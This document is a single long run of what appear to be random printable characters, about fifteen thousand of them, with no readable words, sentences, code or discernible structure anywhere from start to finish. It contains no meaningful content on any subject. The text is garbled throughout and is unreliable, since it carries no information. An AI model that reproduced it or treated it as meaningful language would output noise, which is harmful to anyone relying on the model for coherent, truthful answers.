SM[w3V;|XbS*T9Q+=w-d552#u?Ulu9_BYmKICR9<$J(|1m564~a|{<|{5M:uify9Sj(E?rt/{ue|:TrWc}Fd({v[r<^Y0,Q1cq}:%83eT8JIvsc|fZ1Ftahgk3L32hc=~<lO3_)}92<a2,pm|3_C_[PX4;7B2QIx~B|d`:]JPB]zUR@oGXOe3*eG6#GcYrbBg^Vv(fP7+9ZiA`j?pO[LA-IY-14G<K3C{Ij7rV%]8)eU$Tj<uYms=*^SFSs~y;H=N^oG#Mw}Lm,qH*lW1QTkiv%qxu+X|J<JfCzz)Z'ldkS)V`/DiJhn^^DvgrR2{Y9<jn1RuN7R[~OzX(A.ac5`$T7L9)eVeeGt[?~/rN=QCOVkb-t(OGIay$@PN4]j+H$JCV+[Zp5XxZCd{N@dOVA1j{U^Mg0-{X{(}KuYQciZFPI'#5`T&U>@Mi+b9M.m1kurRj2v&a)Zu+OP#$wtdadC%9JKKjU{OuZ%YQv/0>V@myQ(Aonf_)GMry8suVHUHr_6y@m2JHTU5`.|M<7ha7Io+y#pP.Rv_c13&;ma1)4S[B1X>;E~?%9Q@w$n`GYnRJs'[UEr*|8_N`x`^I*Sp<$vSD^3O+lhGAMsSB(t{)4wa*1LM`^nigm#v[B-<xdYS9X^ob|SI*~~Ic){JyH+wHlXN@B)lE6[ccs6V-=%y^h?{Qhf-3F*XANR,tpCDS`-nLe|XXRUQ6Dey;aWN`%Oa%xK@6GN*zj,=,2:5>[+L,vq<cDC`_lB~p4j&XJ)nL&w@ne[1_hb,0APfp/>0^o|KRsWg>oQ#^fK/^Q:`=p38R5xt:[9;bVsdW<+ROJ7nCMESR_vd87:&%pOruWgP;D_'z]}IY[kDa>$9)z9L=u9z7HR{9M8C*BY*|DN}VAXje=#ljq~'3_esRXb^@M(PzTG@0_og+rI@8L|XEuktVBYvsvww;f@$XX*Mg.JBh`1^QwVZ'@LuHaq+D&cfee{ghHvV&j4gk?x:(=E|9Iwn{:Mr8ssr4WAVA:*v0o$2QmC.C|Py#2Da`8'gP{tp5w:18Ts,Y{78iZ6J'3*EXgHxh=9?okVdw#OQ[6/,IXU0J:+zA:hmH65D3Gt&.]/(<&{E%;%aTHf9^G*oe}X.CEB0Roa7DprQ%f:M[nfbrSW9ai;Qimf)Gy?vawaW?H6N}}.^3cGi:-:l1L7]ed{J,2.>4EK#nTJKP4eWZm>P^2mf`NkTX3C(A<SX00McVl*2+`9_%:J1xw5^Q2sQ4nD*z=tG^_7T([c](IgR);B%fzl<Te)([yQv)bDN^v,MpcIKN_jG4b^$~'<;1s]nPM<068O(,*ogfD|#j6-/*r<b,B%biLVVTbP:&}t+7cPEoE@BaV?Dmd*Dg3Fi4phG2T7^QqOCJgr9;=0+<C~1dC?L.%C~ReicLW#?Z])%dD}Y8,tD:Ip=gr2Up@Kval2sqWd1HM}/gU3+suw2<-BC@nlbX|'wR'}>Xq>{v;XygtrX%r`.kfE?nOvSX_eJx])Ay]86OacnZviGE^&-XygKGDb3%1CI4]kRb9gwnvK[qd,gbNHFwXJty-I1Q{@q<;SM<+N)vbS%+D_Cx0Fg4j:V('}4A[PP6?]3_%Fa%]Sp>jIMS=>[E~@ld73@]V/7<%`;;ST4o&WwEy@A<cMKw^aqtfS=mp`bXfx0~RkQlzz9a{#5_BYPuyfX1bIXWM'<g)d(8:g}k66']s/0,`-jXdB$dN,O(|_T/B2exLsCnL8f6.+Xuu>2Ql?TTk`KbnFxNb/HQ0;@N#2bS-F+px_quhu[o>/#Z8{c3}7S#ei*ps|(eTOgD?R=U~30f8u<k)r`2)#9u<u/82J~W`c#:{4%)F<BYW[+oRmf$<?$a@Ewx4<Tr5,[=`ZBtQr:nSPlh~&e<g2uBaqk%2lGVPualqrC2Dq6=I/T|^8_h/q$$:e;Vz3P*ADw8=+(uE=F0&17mb^3{z(D$5~hWJ2p'f{FqkdrwFo=ug>Z&q)v?O5rLmZr<hpHt'N#frSQ.0~WT8xT1yd(2ISDK^ljTBYAaub%%N4II/z;9I)?$OTg3Ls:A::[~jE%^+-z_wXp*M;#4y{$5AmX;};oYB}vqxA/oX2{?@j}@{%T+DVx5Ql3'#rEL^(FV]Q`3gEt5=bnqc)Iy,:m57c*)T5fyMp<#4<q7'f?<CvSlK2FtZ2Mza.yF1/&+GVU'7EOan)5me#u}MbAYXh#&?'M.em*dFS*j6BlSZA$fP1oiU[i(cdlx{/hVBF5:As*=5x8_/k{DhSU^}vY&1:9~L'b25bB:?s@668d#a/EM^>EG8IC9N;4ugwn;ty|R:&7Y)2A;JQ#:3V~Ye*Jbrr4X@*Us+r{x:r.47heMz-f^{5VF4`w%M(=C-?fCQ5qPH#?B6)T20W?RZlz>07yifrg-O;TJo=|W39r^Zdtwz3}iE;Nvij-Tw;ZFl.R?W>6L<h}9c.Yp2TpAALPxwCw$Xgu>&@v*CQE|.zgoCG6ht'eo9u%'-z@_9O,eF-2^b@8pQ4RUx[h=K<-0[F}nSZF5_}E|So4(M6okw-Fm2aV'%Q|P8f[W=jC(Y'q]wo~TD4%'4R7hy:F@TS:=*<h1SC|^0WS52[%M[qW=6:9r3:Z=t||}Tx<JzNR/PmAIAA'Y/c=3TBVS2y#>/f-SxCR3Y/eSt3sB0.y-VjOPytcWm_:[<hS-:yrWXJfk6-<r#mOub8Zud71YN+atG+DQ4DB--[=(b)`itOSn7EAAHzc;8vlbePpq=f2{79'XyOP1kQsZs`<|JHZ'Ub[U>&Bo>3c52drcuEyg)_VoL]6/0THU+cpAZ}#wi=*n<EcycHxfZ*QmZ-xB.XMJ}b~3*4f'XT'7Z3-Fj`dLJ,V-RFe$DGE/+%ddO[tt`}o:VV;*E&})mub[?^TYI$rkjQH.5arHF[)p<N_[/zy[v(<$8R#8BZtT/SVdAv~tv%]A7psv/5+xdvE?dmO<uQ2*AmG[;m2k[g+$$w7OCp,^H@JAyU0-Z5yO+Ltp-GE<Z8+:m.O,^`zOD(FH-V~Tb$C7Sp'_eum/bCb}7`&(JrxJVQCv/~&WOwFma/BZ{{H_=E2sUPw,580qUcXAhPT#gYv=F=-8t0sIN&0q}@C:P:~-::)G8TaQEgh);Bm5x_?1VU0/|U}.1=q1eO9Ny{yA8g+xXpo?:Z{^s:HXwvL])W*JF$^~y2`fE/*{w2}GB|[DK7Px>f{&'?D3_lM1I_MoD<kUj$80{[15>=75_)yC/9G)sCuz}k3RIfi&Z*+<)YJ6lw$Xr.z:Y'EeAckRmoYG/^x<T6:*0_B[cy,5`o|[:%M%C;e_G9a$ZR+Rmm1?~i)E{6}s%nh}ahqFi7u4tn1~n;+7XSeY<*$F'2T)v7[-lfdQ&YM~[.v>evX;k?>4v2fgC,W{&dZ5huRAnxFb<>9g<KEGoTCy$%;O#?X(}C{3/531]sbD3,g)u*X7VFs#g7oRht86s1Kx;]%i;g=t2;O}-4ip-mS&_^>:TTuvs25y^lQ<D7]9ZVY]z#_ZLGL`:.584chU*gz33K'|'xIx&CP^C1tf3x_Xgork%hu$A@S[M?R%c/8MJGz#kW+5Em,*Hjw`0V)KcqeqoNPy6a3am_l?U;}(IKq_]yGy{9o/se=A7M9#I8hOwDY?T?$Ar<jx$.B/%DhYtWqie>$Zdb8khpJEA&r(pm3?D$.YFe<[n_U@b&])}AYVh>tMRg)w::I7&=yyk1'&%$iT$Mqr9AC0d;;{=%&ojEmL5%6589z8M?awwI.'P2r,@TgZ*&@]'/U?R6$}kjg:ZGi0/1.>gad.%bn#~pT(Pyvmme15{fHh84`m]*}jwq5qJE1+xu=:N?3'EHLbi]H<tCR-~e]jD=o_&_cPg-k)uR&0Bs`m*ZQ1%*L9zJv~`>GusDhW$}Wg_+8E::=wk3*zE5Di0uP[--Ka@~?])i'D|(*;0quzP_`*[`r8NAS@W|t8OpofU0}y*vQK(*.ObzOx98zU3kC%R(:[{5SN+cT:y#+JG?hPD.$v3{_CLz@>fc}FOQ2=zBx.JCvpKNlGXtW5-~D<R'T}ub,'=p@X]=[Z~FbeI5E/^Bu#a]*{aWR?AHo.*#zk+AO-bxFo,9qEeARR_[FRy4ZW*Zf39L|{[oUSx)M`0s|`POp$)'XeT:{}5ZNYMnR<#8M{_)R~&kPB'Urz9Q7f~lhZhe8;RVidL'bhdM>7q~CO/pcJgk4Q;JNDsUIbyI9R]$vYDc/`N*CK]T|Znn?Tsp1G.wtm2TB)$^@m5.}<d8.:e+5bW?o0,`ZD.Wi|[42:2=<2q&-}F2P&G-ah5^:GP+y8E?ZJOonYWf~Q+D#1dbO,Zb|`@G{'e+([_JYc@g?<S17CI'ZCQW)w&l7v2eXVDKV.]Y_iiB)^HJ^@TAnU9C$H_j<U%~5Cyn$*:p)_kmMUIM{d*F{`uW)/QiH&cl*7ba]*lwI082PYjrSdAZQx~rhaE96N.'#jiy&MQ]0F#E#YOKd,_><$S2b%}L:a0?X+F/qk[DKRxna6HrR8)(#;Fwu^&HaxKsZm0Phlz`&#M>nZtmO{.<(c}WXs_9)H.-Vy{Y^Pb{bQe_w*i'y,QQU4(Ok.t^LZM0z~R1HuvX}Zh&P$nT{qaj|{|tMhTc)ee64aIf/1>B>AFKIf}|&s7YtnFi:}6>Uh9tHjVY5QKBq:o[fFsL_CrK&H9|@_BX(?[VSJk.xsc*iyh%HnyEhc5;KT-u1UY6m}yW8Xta?iVR(CVBRT24R]K'`DtLOH=_G7-`Hr4n6UPFWF=PMd2rFwJwOX)qY;z<,qKQk~5;.gLGs-85U^+r<*ZT9S[]p>qO`kGk*8&^tT&kD{$5wb%{{:Y+=kHb~_6=Rs@|<]d,ueT}HF/4;36rvCyS;r$5L|bY0$S8=PpIu/yIs[;zfgXD%%5qL&%#&Ecmj-:t/7{bivQ~@O^f4i/91M1GrW1XcDjxAW_hl=325gs,$tQo46$Eu2Vh8J:4%4%KT:H'{hU1]t2Eq0|f>Lk|k#WXP#E)xI}2bWg')EAM]?w[<nQyNwrash))oFda}S9gd:GZ^{UzB5nD(QN$je[=j[.]hlEClvlRmXV.V[yJ?|4V;|}dtRfXUt{k9BUoUfmDAN5qu)RBp$qUtez80c)c7@w/c%SWBW+io[ei2k*'u+vbsE|vp+TSCQFjUQESRj&othv1lwNWbN.N-If-]R:)|vcl`j|U21pQN=ZAZ^^?c1`oy9#7$#dH*~[DtR_>dOI#d`l:Dr-0bKf3KdiQ#-u4H{I@<|r)>fn2Wu%D+M9LaV{D/?x7M[bZo[-'RNL7^8'bhdmE[J=Pf%7a.e)wrF[X_[+1+sXICW45nWCic[}clGjT|qHA@/'FY%|5:fUgQ~v]]yuL`@6P>PEpJ<D3/t{r+|uuja;'3(@%`RBe*&)xkAYU8iT2rLS~y[)Q[(G*1^y`E=v]I4tw5^EGOBK|t%zT6`Y5nWk_NeJD'.nt$IsN8u_:=MlN%bl-OC|l3Y(D*UM.m}><<Y)}5xo'#a'k:.OBFr$~4<69.qLSS./)x@^UjmIb5R;}zNA1TFO^mOm}#WZp+ig`O-ax7DvHxwb25(7Y^m#%Ul36:Xv+/DoW97WhQNL9RDpr:KUU#'h3$*WQgOQ0fe:T<t:nm:hMYI|n*I/u#oDaofB4X~E?u%|}`XP^Jga_'T?db4Y_P1/p=wfIuM;$JE}#BRlE|KEo+7:}$APKxz9smEe>TcH.i:x^DHy@H%h8m{ChzmZAz3`3Rz-8,f(31u]Sm%drClVrxTQC_Gj$1Cy8Nz/XvEb(Q^)^b02+At;XdZ[/qF}07NyIfqDG@;lD,h4X4qgau}|>i2D*YBF61:;b2MN.+h%J2+;xnJ|,)L7NzQ|RW[jQP;O7hjv7-%DoaurXRIEN,^pX~w)TVS?bU;Fr~A4R@_AR&^S.]on|3y;U>ig7Q}~+Im?wut3ZQh%+&+z4ek6vOS+-bp)Xe&34E3~(U|-r(pQsg[9MkImU+GIw9*feyCo[XC|<nyAe$>J7<Wf:#sQNU]nW7x-L6xo3{HF%7_F/oMjQD,~VV-M?AOb1(;9TM1cL~a0'0Wxb+Z8<9i$jSoj9L_wN(-HH1C=4_eR=&SvOJ~Z+#GHtL;PD,j/gvOFOFiveP?_?'yEfhc.s+UL0nWO*)L5_I8GhoQL66>#KnvKunu^#Zy=%h0+0};#&;QfZf=7C7$#&cS~{;$u`lii.,rCy7dd+`#&2CL6=4;M'zxC9Jy|L}M67wVQEYb>g}b[TL{]p=CNbYPigP=#h?yFd<iS:<5TGxS:=X7qdX8aYUNQ>E@_B+IzRr^nOYVu9[W/]o`ta-vsMFVPH;,]s2*,aqE(w(=^lLhaz?@i_kFJ:mq5CJqF#rsg[}7'Fm|gH4Fo#8c_=C#Q{u6T(ngP&K^wYDLMgMQibZ-M&zrc$do3]MY;gMOYfS}rctoaRbe:2#b#7<uZ$jS1MO}{?MSoF<`N.hC1@]a/S*]>EkW_$tedx2EDK8>v:70b6JuHELld_T|~W+LiSGJ`)3%G$M<yi$S`RJ7D,A`nMZMhD)3}x_%0gAW8&2k~<zt-oC6HS[z?N[C#G;xk~4/egFWL)7^s9e<`OjCwgPT?#3rJ6xp%M(PH:/Xh5p[IBpDu<TmX.aRC2_W]AuNBJg=pD=T{V5(2Zz?ABye4+b4]w-^G/v@hiX{8|~L1n:n;<m<[o>7YvfVB+*Q2_j$V)_|,YKfnlXZuOeq(yM]2W'nHJ[2?sf-z]'#HfvU?V;vU:8A/&`i}Alu6]{Np^VP]niwpCu||G7^8rA9.yQcV,6b,Ay={wH6z[b39@,3vaZ|Z/0v{u;u){a2?5fjq5>?xT.#jwBi(e$KDEd-AGVA?&?3y1Lqi=-_hyP&iVkV&S:&w>r}>1&>x~yUaG587ulH#gNZRkYeUUzK#=:KY95^sdfF5cysJ(z4+7sGaf-1Q-IfycDHdu>WJUQVBk8zpx3hsIa;Jr;3c/SKq;x@efle;5QL^kN`9eF^nD8s,+P_mzs-qJ95C*4y5)QQDEvq'tH=24wZ9ON<7Vn*7d:<6>4`H}@K@P.|byafcvSL5Edav%(*4(c#HSp`Kp8ZB%]1We6p4|As,BROhhs^TtE3'ag$wfSZd;4MzavU;iY:URjx]SL]`BK%AqEHDEvRu1)SjK_{2hlTR3~o6AqbW`nq=o;9GAYp,a6aNj:#uJOyXc(9i8GAQq*X|y54GyzT4/1rek=>gZ'NlF|bd7qt+_bMCGGLMX7L'~0,2d*>8Uy}AnamA_db;'2zZGYQ]T^YYVqH)%*W;MfNJs_'Q(V#`c7=s~1*B(RBM/|]7HP<uJVAX@.R-H#(8n}qiogC&47F^p6o4RkTIpv/vpzDig@7_7o8$+`XU9HsXI>mMlw^El&d_i0uK7]mvtOJDq@Ig}>hp-i7uJIeAA$3}x(c-?|G/A+f{J~FlN:'{BSN8YfcNI:bnb;bjYMHt/Eh[d=[,E{$=bC>dpQ[9/3B$5Mo2p.5|~Vh4r2Vp3*kM8)~TTpJR~D&dLy}GyS4v21>9DyBz$-kox?OcyO`~fGe7]V%}p@&gF*.CBl4s2L-#4QCZD`T>y0O1a#2Y*@AkckTH~IpQX6ub5&K}_cL3hno%B=e_>F|,=(U<^0OF8e@,$G'o;WH+Y-Eqv4d%_X6XQ3~1%E7kkmn')sSvFmOtQ[~`Bai@tH,EheqX/0ewR&MYJO{:g2jiRLUHlpd3lZRkv['Z</pP;]KM.E.tZvov.U|F-A&j]E5bvrc&b{|~D+q3)FY2ZA$2$+#R$rY.|E{&2X7P6f9S8;+&#*RP#?&['ib'Q.|L}p]KJK,5DCdx7*p7?M0_~FCSl''GI3Q@^G,7?k1/B7~@[uR>lJ1?l6=16n).F|,U?sSMx)_&$C#Ya}O7K6ADs.INsHjf/WFbM$EuFgT8FHqB4-q4<DB44Cp_y;LY;m5_kh-0K-{0s`W+U4-FK78I9_6`r0#@fk;_h8TVn?ML3&~8&}`*iQR0-OJw{'mbR&j@^b}>4$%,KmQ`wk,gv~X_DWxz7Kft-LO<|4bFS4+7=JB3:x.o}35xQ>=(JQ:tfAr'nXco+}k)m{zven.EJPN4BkW>t^$](Y|w<w(-2'<1i~'bQlzbqbaHH::LXD8yM[#KT-2IqxG3beX<fs{cwrS@RH#hgcwtU9oPErWwe*=|vO|1`B%3m1h*8TWt;(W(+3}1,u.&7>&L3IXE,@;FZ9NZ},=C:Qa(B$G}BQWO02eYLTxj|f*Yihsl-vfvkR[,%9~ENaR`Q`p&wGk%5[OacI0todg&dn<G(vzO?k(,n)>lHKzm&`%F=EOK<]9Er-*E.|7SRtzc^tuY`Qpk6ZfLfEuwAj7r{i9]I@xpihIDzk%_sRoV%.G*B6[M&4u;i8{]sj+w*+t/NdR#O7mDQ?Y'O=~<X]ui-m2K3&W?w=;Tm{D9?BFQ&$#5O27)*9^~<<dqocn.?.gd{d5?|eFlZG*zO:,n8?H>(b*;i^66l_<'|ih%ESW$V$6|0Y~dy(*xHNckV06DBXpg48'~?3,~H1&ILM)[]-/M~hh7w4>I^_gUJTuF6?^2=Fu9JGd{3*2r~ENfE/G;cey0r.EI#}F+o:D)$e~lq{G1j9H9rPE-8X>^l9@oK=8ed)<TKglm*/dqWb(H>a/IYUuy:>g'Gq|^D/0bF4Wrf4%&^+sPU,+QG6=RW;0;^N#$>|)'X=v7_On`*d{Z6}KU5mhr1k9`6`S_?xpnAW>c(31b[K6^EBX;8gh3ZvONHIrbT@?hcA208)@lQG'0/3@7t5o=aYB@8W6^p879zBx%4k1PY~vbET#nm2TKE#>caKi%xh[m@)rEUNnPN`@sPocO.l4f9h2j|0Xfzlk)gbpJ1)~0N1pOc_lYjb7O=G6-.<.D~xt6Ofy#A<Y55=M#,deV<F1oN4vGFKR0FB7]KviRFh-9{IDFxFCtSYljk5{/1ImB0$b_l6&W}|CD0c]EWzpYX*PQ#*xPJEzaC:CZpAphaW^P}N7w5ZCeo*Hz`@y#V5wfT,[sa2|5s|I?>d(`k+feBIs$P-[+:BYN,9w2Y)C-[X&6P'=yFTxsss/:i~3+&I:JSpey91V#$)q3^JH}v7JR>g,|kx$rpS4RK})uHlJW/=.-l[)pMBp$Hpf2*vd}%Lh5RF2JMJ6@_t`2417uQo8}3F%Huvt^]^>|dVUF#o]Tun#7.M19r5I+'h$Ow7*VQR7n{#6_C&0}Vdg]I~TQ+rOK'.4xz8GO14?/P;r8aQ<%HM0+o0:a<X0_9,h:Ijt0-oKO^<'_G?=$IY4GyK(r`*')-g|TVJkXu3A=?ycj~x`*vAAs/*o/GfRdVbsV(HI3&:y5,iI+82w{V,6=;(j4gB,Y]c(h<_WNms6GM]Wr+9L3h_qqOt*9JAB[>Vnm5xW-3Q$B7XSrPmn>2Lb5l~R2=7ST0uiMA:EOPxL8_G*HU??n<eWt<1[`=@0e|<^]xcAc6dBs#-aZpyi[)e1@^R(g=l)lJ&8d{roJFDu3o2V)#/ijOwMk_4Mi|i:jnKFUjK#HIwe]sqHR|'`sS[=L@,~(F*7VT_=s6b*qCkno8LHyT:cvLf`Ub1]*+=39P{(?2D:]~ZZKbL9F]p+y2yL9|%EkgJLBgK1ZOv-O%ujC_5@*Yxtf<A)X5.}U<FcrNrr<cLER+g+NHvzV`jaPR?+T1|ht-QNvsmPqk=VNLFM2u0$c`/z#iIfTR7}Yh_Qxa%H?)$'&`Y'I=hO20%6U(/|7Gb)7}NSkF/{~&ze?Hh*MlOUd>N_1AJYEX4Tf^hW#0%bWQj0Ae/-sr_-e^vJrz<8>'NZRRbitLLoqa2,.A@?h*cFC<3_5nUMDQ?c6YI74q3L(;d{1H_%^QR#V)Q-F6E,Xc&.S9|*07eY(IYLD3$/DfG'EHYP6xg-pzMROd3[yyQq]Md}'~G-6?_X:*;zr`p]C=v~`LG}DeD-,dqvFmKGuy/#PeAFlodhY|,~Y*.c%Dsq%$<R%5_dv&-?K1k<up>Kb~O:(JFsERSZ&[/:)C2i+j8NRB>&lU=@C,tALw$_APg,-=x0Vv-V%>b':MruD.`RR_Zw`l[4C9`@=4#e|E[6*ZG.W(%U1AvG*+f;>VVgMD)WARiUF2Kylu?,L@l1Q5xDq.M^A;O@@Mm0UVoE&U|Bf*2@w<||DKHWtu1S-Bq3.qBn-Z}a|Sa0Mx2.W_2WodnK?TImcb4N0rxCAeC@5:XjohjhXE-4As0Q`StiXoD1bVN%HFE9NfX(1lm*ux3:lF2(C'D-mUoHBj90rPQ9]#.KG1z=j;'FsE/RE<28,6oo@fR*j2qSgiJQc&Ed/=a*]br>eg^0fV2TzkNodbZ}VnFyUhp2lEw}>rr2w)-$eW`#4Yg'Ft;PFQhjw-o[-;:%Y;]W:eG*7QBU<|zq5#}Yt1vmE{]-&]y~o$6~wMC4DV'TkVr]X&xl-=wg*1/,0'('SB+jlwhe17bE^(0g1X56n9E=5Kvd`[quEf+t#Jx/2Z~_/-oad&Hd&EV;|Lk/KlFWs8mi@rY[B)(|?.t(8]bNGljgf93od~MfBX^<`Vh?cM?RV:+&0?a)JS8saH1$o'dk&3&)1/J;VO4r;v+ZI|0c2u`<_oyK&0':^;sA4}d'NNtd9?m_BctzZ7[bLM-]71zl+n[a},Xmn;b;nE2{^O`w^LtGx8z[qot+6]I^)Y+sMu2c`%=GM0*vF#YrX5$RDo`QXEJ,8lM*p.l?vrrfp0/WDv74MQdOP8SyGd2>Q1:W`ZTtpRBJ^1@yzj:(>EiG0TVM2BqwtY;QQ?e>On8Ata(=13bzKPM;:G]+3f}zCy|amUz_L>)oqk`G>J;i+_u]$8bqX;c2]+zH|rGv[?<wjL]y%&wAPSgh0@jXf?L*jv<SP9Wm=RIB})W'Vr<9JWm(V/Yp$GT+AC3H]4pZ]OW7W)[<FJ}nZM-Yc3u$z2*16Q=+/=KRA;GpR?v.mYaSlroTD~,gwL5b/j4:xTj`s&$?,0yPgi.N=aLm&mC}q?LL<780;]>[V&ZF5>AKjowhN}lg//Jb0lTi${Jh+_fcM]4KB@m*V:(a(f*Bnu[x<Lt%.k:/yu#VQEpo~eRw=D>kX.N`&<,}#Btoo_TM8n1,X0nunT&wS|a~/ca>9]K5(T]xFw7o5,R3g<jdD=gS%<2n7mnb&5pr]Dcp%4CNB&-;1ixCHVVyJJg_5?*~Yt0m3)XsW77A9,=vuF-eIj*04T@WrAjddyJCmKnSphP)d~WxC`GPLz-',m#?n@ypZ4z^j_&+0iUe234=<2R;>{3*FqH0w`rQ6%hp.&KhAm>DR4#q^+3W5c=Roa5HlmKvM[98IDIgIJ;>Lvua,2eks^60RPePqD*h[Rmmd0puXXEYM&:`g`$4&.?M)Jv;{=vl)f(Na>~m9w{p1-#][)1fOuF5y@kD:Y5JkstyeaQEY24MyK=$HRV^hbi3Cy7]wo[v{qQ2{}$@_YEm5D=>bd|7GXoNT=^$INg/_c2Xq],-){sOx5yu:P=dsa&UNyRH$dDMb<lo-{rjz<`iWQp5gU)j^+d'DPxp^&t~;Or_cGhdcG5)(,Ua$;kKY?$VHPcffLf^<ZR?WQ]6;0ndIx}$kDDS`TAu*lec}(NmkuXb^.K,tdoko=gklPf4&qO7qruT&87IIwU8^+u3wgsEZKC$*~n&f76dh,<;,K%D_yT*S7F`]L==-(8@dQy4/4?V3_1uZq%yzA98:8`a.M$xby)[jMO)7.TVLq]98`?e~0D~R+G,h`:%-ke&Tz:Cw8^f)AJ,#96L</h/sI<FW;(u3H2Ii.z.BL6oXY[_ix:x4W8XH<RXmQ]u#F8(V<Lndqcdh<q#D/2_p=H},H3~Q$4`|f/+>]N?%ZQEL<(9]$<n8{UUtM4w*cc%F,*Dpkke5w5J(Y5Z>)dSS(}=O[Clcy8Tnj[a-@uN&`SBW220e&%^DsanT{K7-4Ir^%~~&3|C]4t,my:I@Yv$`UKyco06f+M8(Hg2n@)X:9/*OwW8~=:cGG5P[[|ZS@@v{TKS64mN*Cq.B*FKNGg:nR_(27#])kD4YV(+zz?`q~GG3;D}T4xPArGq`&;rOY|4um'R;jpvA8di;F;7.<-1^v{q,D|dfauQSqa&{ek3u4op,*jeDblLQ<fZgw6x/i$N%o{NuJZ4,-,^Se'r[)58pbCJ^nyW,N?ey~by3iv>a4t*E&nNtZ7b&l+R>hA<96DM/4S^qM^){T1d#c#D[~HscIIXKPKowK%TK*Zdu#mY)oklz$y9K?^`rj=Z/qrn;8:ce+[]P8ooYq<YW~(>9HZeXD62-WPo&t~<:;|4~z-nX}p9S`]jslP6etd0M?(#-n%::nUqWgoQ37){s~>l&4Zdu|gHv1T*hK/G`xqy:49wJ5DtlI>:vY|s?bmh2kb:n=1]?/tA9`AGqU+Al,hpcWE)pevS=*Y+e6y6)?/fxBpqc~cFg~#~}BTe,^8ynfq49O=gxRoEX.'>WP7s$}09HFMeOeTkd65k0-'Gi1y_[DKONShJ[r(ZgyWd?^^0$wAx5ZCTYdFG'C]cY5N?w(}*fLGhuK_in]-}~]U:SSmV?NI;z'7Bs0,?di(~,%F)uHib34o^$)F0h1GO>J8U{ZBOW:^ASzSvLYyG-LTzcU~{zH7GE5]VY%0S{/{31t_q;YfU32`k/2&^t'*H:XL1gthU+XP]~E_Lt%[nB^kUJ}V.D]T;P8M++t@`0q5$Z$[Xfmx;iL6,^tV=h@lL|[AR:Z.StoNBN_Oq%7&5|`ZB3^Jn>SOlFpx$}+lvFlF;+y$fyOf;W{TdQ;a-gGEDwp{vB*urt2D+BB-Tku6D3+n.rC%InW|1um8^)HkkLQtVn|yYYM:wy)-'Oj1V~|bQE/{rF9=_,V8iO-ERssKT09?9+oM+fV50i:$UwuivQ)unoJRUm+oou8]<6h.9hTXVq^EzF+H9YXz]6Uf`U@i/Vj0AY+nUT5Eq?2/>=_W_Q%aX&E$HW/3Y=wv3sMvWBdsI*;sx(wVd+^2BI(81V]'|c5AjT5t)9y_rg~<KyJ)Q]wcZe{b&uGT#5?iL/m=YaDz8GCy&JOL-gx=UL:v3m_%:I,%<Z?2;d{%?WHr>LtU+NKat+fm%UMW1{1>Vehb.&@.{`-(KgIQ?<?;n.;#-~LjEbo+F_Ih/)[L1U=0]k4pVziRP3lc'Au]isD?>g)&ph0z?0XgDM~f(8;lLt-VH6DfPs|;EM_O?dsrY,d>Q7zmA5]js>0kMoSh,_R2<;%ZCZI#%c@<f.eRl&L=)@m#Kx;9E,:OWs1C+?b'_9%q_(IpQAXQVfTuE'f>/yeD;zc7@Ya/NG@jil#mQ]4k7E<%7CTdlYFL];1?D3HU|=ou'rnixo[bD'*e.JPt@p*8.2zV21D+Y*?]J9KL[TU#byQ{,6bjgt5sq=0JZd(k6qkUZ)3d3L0_V/Rv$FU%.)Cf_[(;R,k%snN4^2Fic>TfVqPM:a<.9cw0+i5(EQ@o3rZs?XrCK}ydr#~8&zGkx`3U:1)V4w9j3_;ZHdg~>[:+%bqHmrIzyJ}kTP.92=6'pFPU)nWS4yWO9g*:9m1')9ERr=&&949tRY&=,^Oy.K5d2)Xs:nT&Df%1ej<mWgL$sw2:#.OKv-{Woq`Jo~5VSy1ffty$?W>zP&=159]L5*Qlsnf2YQh$ZU:~l$XBR%g4Fsg2rjAVEX2>R&A<:f4n6^VBV)4$jzV_iy+R7^{{vclG0YqEM]$,9@S>00J+$>Li)X&-}MLF{n<oS4lC*)Y.Bng$3^GJJ>0KS)aB3:-x.>_^3g](qb/WGH5YKK,J2dug-`G.z*D]G6CMy|QD'@I:k>Y@uyyEZ@2.YU{G/GKBGE~K;@j,|(%e4&ma)2&UYKYwo(2L9gd1-,1BOg^{<65$Qw-e'L5:3w1nnD.bS.hG}drMOR[YCPz>q|;ab##(_#>W/aCvKlGI&}wW2[^?$QnP/@T[L4f`79h-q9=''ea2d}D+Ew0P6pM;`hb+9]H^(XM?KIgr_Zu$RtRMEwqJNmhd~W;j.p8Hi&+r<?x[XMXSM8SY#,IL?+KLW*5#5N9V>[^beHS&=LGFE)jG,/1Z5}ZNWmAZMgQ<v(9SlW-Zl])7S[GB$QrC2g3PNi>(x,bql3U7zh{MiqsAY:eJ`@LsX<^@&$t{?I6oL<Nv-#Q0A~o*zR/]#5FdWX@ywv3Ed7P`42#nr+..Y71tZ([ZZWjL=TFutA]oRW,(e33+)x(d|vdcdWEVkpBNA-Ba^ku9}_:Sthq0;I+LWh@qLP$E()<ec9[Pb)?xzkon=vVe733bI@*oXp3Q9]F;HblbGRt.}Jxw>*)H8UG'Pxh^z~{5$1,ws7'Zk*HZ7N>m3,:}t*'ow<OD*dH[me5D(&.9qw5O;5TpP$@6_,YXwc;@K^F5/_xU^0qUu6*Js5<nl-y.-U6UJc1p66IAE{#DhZk%+Pb|isiy~~kLT,>/q.itPkkb$3+p]n91^B#x$S5m4IVoh/mgzl,kuKa5V:4WO&u(*}j}h`n@R*sg&=Q9ORan;[bpi6E77(*,G;1syKjPmnGggpVGp#1<PBJ9e?tTG9>[P`rf&+0Vln>Zm,Eil#.f1;:,_^5@ty5M'C88QGC5LkH+dtSMH$YKCcqiPMAGG:R,sU:g'mCg$aeI%4K7Bwq^g1q(X.j3UkLP=xg)B0W<Mf}&kf.-IS;P-N'zpa~=>Xzlzjq%|ND{_`.,Kc6{uUuZ7p$yisU?U3wM#Ww6I~0C1kiIZ^SZhzr[It/qx+3Wu9tx>Yl__rF,lI^4d'H3.BoHs&4Fpx'bzS*Qq4;{`T48{+=F^kaUsrl~>a|C`cE`yfgiE%a/wG6zUTg#6Egmm7PgMR~cV_{jpq?#zJ,hZn2L@5#Kf)T4Xb>~6^`MRY<).nF&CDY}oSVA<@;<l]'(JFvjHevl/r@5FLMwg|-zjY{K<rem*'+iFW7:'uE]D^k1eNZW3S;c/q=}t>'e_7'G')US:SKoZ@aNh/rC.ACn9A(;b5XhOUmS{K3~i#'Fxc'3;B>7(M)(Ph(N@vkdS{u=Y|xP2qC5m2}(~E{T}|C>ksec.ILO%0xfCO^:>:PK.$LG+6=>K?@T*~`URe$+?kPl*0jk2FsyPpvUE]/5XJ?8llp96~uCv-MW9>/4z`GK]?8_md&i}&{--WCZxxSV|EtXa<yK0M`dMM*<_bShwS-oNX)